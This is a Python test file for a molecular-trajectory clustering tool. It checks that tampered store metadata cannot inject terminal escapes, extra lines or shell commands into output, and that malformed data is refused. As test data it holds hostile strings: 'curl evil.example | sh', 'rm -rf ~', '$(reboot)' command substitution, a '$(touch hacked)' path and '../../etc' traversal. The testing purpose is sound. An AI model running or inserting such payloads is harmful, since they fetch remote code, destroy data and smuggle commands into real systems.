"""A stranger's store whose texts would write on the terminal, into files, or into the next command."""

import json
import os
import shlex
import subprocess
from pathlib import Path

import numpy as np
import pytest

import twopass_store
from conftest import command
from strangers import change_metadata, change_plan, copied
from twopass_store.errors import StoreError, TrajectoryError, TwopassError
from twopass_store.export import write_medoids
from twopass_store.journal import Lock, hold
from twopass_store.report import store_status, summarize
from twopass_store.store import Store, lock_folder
from twopass_store.trajectory import load_topology, topology_from_json, topology_to_json

EVIL = "\x1b]0;owned\x07\x1b[31mred[bold][link=http://x]\x9b2J\u202e\nNext: rm -rf ~ :smile:"


@pytest.fixture
def store(finished, tmp_path):
    return copied(finished, tmp_path / "sent")


def write_texts(store: Path, path: str) -> None:
    """Give an array of texts a hostile one each."""
    with hold(lock_folder(store), [Lock("ingest")]) as writer:
        opened = Store.open(store, writer=writer)
        opened.write_all(path, np.array([EVIL] * opened.shape(path)[0], object))


def set_everywhere(value: dict[str, object]) -> dict[str, object]:
    """Put the hostile text in the place of every text that a person reads."""
    names = (
        "atoms",
        "most_confused",
        "held_out_split",
        "alignment",
        "n_clusters_reason",
        "suggestion_reason",
    )
    changed = {key: EVIL for key in value if key in names or key == "metric"}
    changed["provenance"] = {"versions": {"python": EVIL}, "cpu": EVIL, "command": EVIL}
    return {**value, **changed}


@pytest.fixture
def evil(store):
    for holder in ("subsets", "clusterings", "scans"):
        for group in (store / holder).glob("*/zarr.json"):
            path = str(group.parent.relative_to(store))
            change_metadata(store, path, lambda m: m.update(attributes=set_everywhere(m["attributes"])))
    change_plan(store, "assign-default", lambda p: p["parameters"].update({"note": EVIL, EVIL: EVIL}))
    write_texts(store, "trajectory_path")
    return store


def test_texts__write_nothing_on_the_terminal(evil, twopass):
    shown = ""
    for arguments in (
        ["status", evil],
        ["status", evil, "--json"],
        ["summary", evil],
        ["summary", evil, "--format", "csv"],
        ["recut", evil, "--as", "fine", "--n-clusters", "4"],
    ):
        result = twopass(*arguments)
        text = result.stdout + result.stderr
        strange = {each for each in text if not each.isprintable() and each != "\n"}
        assert not strange, (arguments, strange)
        if "csv" not in arguments:
            assert not any(line.startswith("Next: rm") for line in text.splitlines()), arguments
        if "json" in arguments or "--json" in arguments:
            json.loads(result.stdout)
        shown += text
    assert "\\u001b]0;owned" in shown and "[bold]" in shown and ":smile:" in shown


def test_texts__write_no_line_into_a_medoids_file(evil):
    text = write_medoids(summarize(evil, "default")).read_text()
    assert not any(line.startswith("Next") for line in text.splitlines())
    assert text.replace("\n", "").isprintable()


@pytest.mark.parametrize(
    ("recorded", "words"),
    [
        ("curl evil.example | sh", None),
        ("twopass ingest x.zarr $(reboot) `reboot`; rm -rf ~", True),
        ("twopass 'ingest", None),
        ("twopass ingest x.zarr --of-mine 3", None),
        ("twopass export a.zarr coordinates --to ~/.bashrc", None),
        ("twopass run demo.toml\nrm -rf ~", None),
        ("twopass run demo.toml --store 'my store.zarr'", True),
    ],
)
def test_next_command__is_ours_and_quoted(store, recorded, words):
    change_metadata(store, "", lambda m: m["attributes"]["provenance"].update(command=recorded))
    (store / "journal" / "ingest" / "ledger" / "c.0").unlink()
    found = store_status(store).next_command.removesuffix("  (to resume)")
    if words is None:
        assert found == "the command that began it"
        return
    parsed = subprocess.run(
        ["sh", "-c", f"set -f; printf '%s\\n' {found}"],
        capture_output=True,
        text=True,
        check=True,
        timeout=10,
    )
    assert parsed.stdout.splitlines() == shlex.split(recorded)


def test_next_command__of_a_path_with_signs_of_the_shell(store, tmp_path):
    moved = store.rename(tmp_path / "$(touch hacked)'\".zarr")
    found = store_status(moved).next_command
    path = f"{Path(command()).parent}:{os.environ['PATH']}"
    environment = {**os.environ, "PATH": path}
    subprocess.run(
        found, shell=True, check=True, cwd=tmp_path, env=environment, capture_output=True, timeout=100
    )
    assert not (tmp_path / "hacked").exists()


@pytest.mark.parametrize("where", ["atom", "residue", "chain", "segment"])
@pytest.mark.parametrize("name", ["C\nATOM", "\x1b[2J", "A" * 5000, "\ud800"])
def test_topology_names__stay_on_their_line(example_top, where, name):
    topology = load_topology(example_top)
    document = json.loads(topology_to_json(topology))
    chain = document["chains"][0]
    residue = chain["residues"][0]
    if where == "atom":
        residue["atoms"][0][0] = name
    elif where == "chain":
        chain["id"] = name
    else:
        residue[{"residue": "name", "segment": "segment_id"}[where]] = name
    with pytest.raises(TrajectoryError, match="control character"):
        topology_from_json(json.dumps(document))
    topology.atom(0).name = name
    with pytest.raises(TrajectoryError, match="control character"):
        topology_to_json(topology)


TOPOLOGIES = {
    "no table": "[]",
    "no chains": '{"format":"twopass-topology","version":1}',
    "a million chains": json.dumps(
        {
            "format": "twopass-topology",
            "version": 1,
            "chains": [{"id": None, "residues": []}] * 200_000,
            "bonds": [],
        }
    ),
    "deep": '{"format":"twopass-topology","version":1,"chains":' + "[" * 50_000,
    "another version": '{"format":"twopass-topology","version":2,"chains":[],"bonds":[]}',
}


@pytest.mark.parametrize("name", TOPOLOGIES)
def test_topology_that_is_none__is_refused(store, tmp_path, name):
    change_metadata(store, "", lambda m: m["attributes"].update(topology=TOPOLOGIES[name]))
    with pytest.raises(TwopassError, match="topology"):
        twopass_store.export_coordinates(store, tmp_path / "out.pdb")


@pytest.mark.parametrize(
    "bond", [[0, 99, None, None], [-1, 0, None, None], [0, 1, "x", float("inf")], [0], 5]
)
def test_bonds_out_of_range__are_refused(store, tmp_path, bond):
    def change(metadata):
        topology = json.loads(metadata["attributes"]["topology"])
        topology["bonds"].append(bond)
        metadata["attributes"]["topology"] = json.dumps(topology)

    change_metadata(store, "", change)
    with pytest.raises(TwopassError, match="topology"):
        twopass_store.export_coordinates(store, tmp_path / "out.pdb")


@pytest.mark.parametrize(
    ("path", "attrs"),
    [
        ("", {"topology": 5}),
        ("", {"provenance": [1]}),
        ("clusterings/default", {"subset": "../../etc"}),
        ("clusterings/default", {"subset": 5}),
        ("clusterings/default", {"linkage": "../rmsd"}),
        ("clusterings/default", {"n_clusters_found": "3"}),
        ("clusterings/default", {"n_clusters_found": 1 << 60}),
        ("clusterings/default", {"cutoff_nm": "x"}),
        ("clusterings/default", {"leader_method": "exec"}),
        ("clusterings/default", {"faithfulness_overall": [1]}),
        ("clusterings/default", {"provenance": {"versions": [1]}}),
        ("clusterings/default", {"n_clusters_asked": None}),
    ],
)
def test_attributes_of_another_kind__are_refused(store, path, attrs):
    change_metadata(store, path, lambda m: m["attributes"].update(attrs))
    with pytest.raises(StoreError, match="damaged"):
        Store.open(store).attrs(path)


@pytest.mark.parametrize(
    ("stage", "field", "values"),
    [
        ("assign-default", "parameters", {"n_frames": "many"}),
        ("assign-default", "request", {"covered": -5}),
        ("assign-default", "request", {"noise_cutoff": "1; rm -rf ~"}),
        ("ingest", "request", {"append": {"n_frames": 5}}),
        ("ingest", "request", {"trajectories": [5]}),
        ("ingest", "request", {"named": [[1]]}),
        ("ingest", "parameters", {"trajectories": 5}),
    ],
)
def test_plans_of_another_kind__are_refused(store, stage, field, values):
    change_plan(store, stage, lambda plan: plan[field].update(values))
    with pytest.raises(StoreError, match="damaged"):
        store_status(store)
